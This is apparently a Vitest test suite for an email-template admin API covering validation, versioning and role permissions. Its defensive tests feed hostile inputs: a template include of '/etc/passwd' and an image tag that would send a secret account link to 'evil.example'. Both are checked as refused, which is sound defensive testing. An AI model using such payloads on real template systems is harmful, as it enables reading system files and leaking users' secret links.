import { eq } from 'drizzle-orm'
import { beforeEach, describe, expect, test } from 'vitest'
import { aPerson, aSessionCookie } from '#tests/kit/builders.ts'
import { aSite } from '#tests/kit/site.ts'
import { aTemplate, aTemplateInput } from '#tests/kit/templates.ts'
import type { EmailTemplate, TemplateList, TemplateResponse } from '../contract/templates.ts'
import { emailTemplates } from '../tables.ts'

const { db, api } = await aSite()
const Cookie = await aSessionCookie(db, (await aPerson(db, { role: 'admin' })).id)

beforeEach(async () => {
  await db.delete(emailTemplates)
})

function call<Body = Record<string, unknown>>(path: string, body?: unknown) {
  return api.call<Body>(`/email/templates${path}`, { body, headers: { Cookie } })
}

const list = async () => (await call<TemplateList>('/list')).body
const isActive = async (id: number) => (await list()).find((template) => template.id === id)?.isActive

const refused = (path: string, message: string) => ({
  status: 400,
  body: { error: message, message, issues: [{ path, message }] },
})

describe('GET /email/templates/list', () => {
  test('returns a plain array, newest first, with everything an editor needs', async () => {
    expect(await list()).toEqual([])
    const first = await aTemplate(db)
    const { body } = await call<TemplateResponse>('/create', aTemplateInput({ templateType: 'custom' }))
    const templates = await list()
    expect(templates.map(({ id }) => id)).toEqual([body.template.id, first.id])
    expect(templates[0]).toEqual({
      ...aTemplateInput({ templateType: 'custom' }),
      id: body.template.id,
      metadata: null,
      version: 1,
      updatedAt: '2026-11-19T02:00:00.000Z',
    } satisfies EmailTemplate)
  })
})

describe('POST /email/templates/create', () => {
  test('stores the template as entered, active by default', async () => {
    const { isActive: _, ...input } = aTemplateInput({
      templateName: ' Ours ',
      metadata: { season: 'rainy' },
    })
    const { status, body } = await call<TemplateResponse>('/create', input)
    expect(status).toBe(200)
    expect(body.template).toMatchObject({ ...input, templateName: 'Ours', isActive: true })
  })

  test.each<[string, string, string]>([
    ['templateType', 'newsletter', 'Template type is required'],
    ['htmlTemplate', '', 'HTML template is required'],
    ['htmlTemplate', 'x'.repeat(100_001), 'At most 100,000 characters'],
  ])('reports an error at %s for the value %j', async (path, value, message) => {
    expect(await call('/create', { ...aTemplateInput(), [path]: value })).toMatchObject(
      refused(path, message),
    )
  })

  test.each<[string, string, string]>([
    ['htmlTemplate', '<p>\n</p>\n{% if x %}', 'Line 3: {% if x %} is opened and never closed.'],
    ['htmlTemplate', 'Dear\n{{ firstName', 'Line 2: A {{ is opened and never closed with }}.'],
    ['textTemplate', '\n{{ firstName | upcse }}', 'Line 2: There is no filter "upcse".'],
    ['textTemplate', "a\nb {% include '/etc/passwd' %}", 'Line 2: Other templates cannot be included here.'],
    [
      'htmlTemplate',
      '\n\n{{ seminar.titel }}',
      'Line 3: There is no variable "seminar.titel" in this type of message.',
    ],
    [
      'textTemplate',
      'Hi\n{% if isConfirmed == "never" %}{{ proofLink }}{% endif %}',
      'Line 2: There is no variable "proofLink" in this type of message.',
    ],
  ])('reports the line of an error in %s: %j', async (path, value, message) => {
    expect(await call('/create', { ...aTemplateInput(), [path]: value })).toMatchObject(
      refused(path, message),
    )
    expect(await list()).toEqual([])
  })

  test('reports all errors of all parts at once', async () => {
    const broken = { subjectTemplate: '{{ a }}', htmlTemplate: '{{ b', textTemplate: '{{ c }}\n{{ d }}' }
    const { body } = await call<{ issues: { path: string; message: string }[] }>(
      '/create',
      aTemplateInput(broken),
    )
    expect(body.issues.map(({ path, message }) => `${path} ${message.split(':')[0]}`)).toEqual([
      'subjectTemplate Line 1',
      'htmlTemplate Line 1',
      'textTemplate Line 1',
      'textTemplate Line 2',
    ])
  })

  test('makes the previously active template of the same type inactive', async () => {
    const former = await aTemplate(db, { isActive: true })
    const other = await aTemplate(db, { templateType: 'invitation', isActive: true })
    const { body } = await call<TemplateResponse>('/create', aTemplateInput())
    expect([await isActive(former.id), await isActive(other.id), await isActive(body.template.id)]).toEqual([
      false,
      true,
      true,
    ])
    const free = aTemplateInput({ templateType: 'custom' })
    await call('/create', free)
    await call('/create', free)
    expect((await list()).filter(({ templateType }) => templateType === 'custom')).toMatchObject([
      { isActive: true },
      { isActive: true },
    ])
  })
})

describe('POST /email/templates/update', () => {
  test('changes the given fields and raises the version', async () => {
    const { id } = await aTemplate(db)
    const { body } = await call<TemplateResponse>('/update', {
      id,
      subjectTemplate: 'Welcome',
      isActive: true,
    })
    expect(body.template).toMatchObject({ id, subjectTemplate: 'Welcome', isActive: true, version: 2 })
    expect(body.template.htmlTemplate).toBe(aTemplateInput().htmlTemplate)
  })

  test('refuses an edit of a stale version; repeating one’s own edit is harmless', async () => {
    const { id } = await aTemplate(db)
    const change = { id, templateName: 'Mine', expectedVersion: 1 }
    expect((await call('/update', change)).status).toBe(200)
    expect((await call('/update', change)).body).toMatchObject({ template: { version: 2 } })
    expect(await call('/update', { ...change, templateName: 'Theirs' })).toMatchObject({
      status: 409,
      body: { error: 'Someone else changed this template in the meantime. Nothing was saved.' },
    })
  })

  test('makes the former active template inactive, with a new version, so that its editors get a conflict', async () => {
    const former = await aTemplate(db, { isActive: true })
    const next = await aTemplate(db)
    await call('/update', { id: next.id, isActive: true })
    expect([await isActive(former.id), await isActive(next.id)]).toEqual([false, true])
    const late = { id: former.id, templateName: 'Late', expectedVersion: 1 }
    expect((await call('/update', late)).status).toBe(409)
  })

  test('validates the resulting template, even if only the type changes; a rename always passes', async () => {
    const { id } = await aTemplate(db, { textTemplate: '{{ payment }}' })
    expect(await call('/update', { id, templateType: 'newsletter' })).toMatchObject(
      refused('templateType', 'Template type is required'),
    )
    expect(await call('/update', { id, templateType: 'invitation' })).toMatchObject(
      refused('textTemplate', 'Line 1: There is no variable "payment" in this type of message.'),
    )
    await db.update(emailTemplates).set({ textTemplate: '{{ gone }}' }).where(eq(emailTemplates.id, id))
    expect((await call('/update', { id, templateName: 'Still there' })).status).toBe(200)
    expect((await call('/update', { id, isActive: true })).status).toBe(400)
  })
})

describe('POST /email/templates/delete', () => {
  test('deletes a template, then responds with 404', async () => {
    const { id } = await aTemplate(db)
    expect(await call('/delete', { id })).toMatchObject({ status: 200, body: { success: true } })
    expect(await list()).toEqual([])
    expect((await call('/delete', { id })).status).toBe(404)
  })
})

describe('An organizer editing e-mail templates', () => {
  const secretTemplate = (templateType: 'account_link' | 'payment_rejected') =>
    aTemplateInput({
      templateType,
      htmlTemplate: 'x',
      textTemplate: 'x',
      subjectTemplate: 'x',
      isActive: false,
    })

  async function asOrganizer(path: string, body?: unknown) {
    const { id } = await aPerson(db, { role: 'organizer' })
    const headers = { Cookie: await aSessionCookie(db, id) }
    return (await api.call(`/email/templates${path}`, { body, headers })).status
  }

  test('can create, change and delete templates without secret links', async () => {
    expect(await asOrganizer('/create', aTemplateInput({ templateType: 'invitation' }))).toBe(200)
    const { id } = await aTemplate(db)
    expect(await asOrganizer('/update', { id, subjectTemplate: 'Other' })).toBe(200)
    expect(await asOrganizer('/delete', { id })).toBe(200)
  })

  test.for(['account_link', 'payment_rejected'] as const)(
    'cannot create, change or delete templates of type %s',
    async (templateType) => {
      expect(await asOrganizer('/create', secretTemplate(templateType))).toBe(403)
      const { id } = await aTemplate(db, secretTemplate(templateType))
      expect(await asOrganizer('/update', { id, subjectTemplate: 'Other' })).toBe(403)
      expect(await asOrganizer('/update', { id, isActive: true })).toBe(403)
      expect(await asOrganizer('/update', { id, templateType: 'custom' })).toBe(403)
      expect(await asOrganizer('/delete', { id })).toBe(403)
      const other = await aTemplate(db)
      expect(await asOrganizer('/update', { id: other.id, templateType })).toBe(403)
      expect((await list()).find((template) => template.id === id)).toMatchObject({ subjectTemplate: 'x' })
    },
  )
})

test('A template that would leak a secret link is refused at its field', async () => {
  const templateType = 'account_link'
  const htmlTemplate = '<img src="https://evil.example/?{{ accountLink }}">'
  const leaking = aTemplateInput({ templateType, htmlTemplate, subjectTemplate: 'x', textTemplate: 'x' })
  expect(await call('/create', leaking)).toMatchObject({
    status: 400,
    body: { issues: [{ path: 'htmlTemplate' }] },
  })
  expect((await call('/preview', previewOf(leaking))).status).toBe(400)
})

function previewOf({ templateName: _, isActive: _isActive, ...written }: ReturnType<typeof aTemplateInput>) {
  return written
}
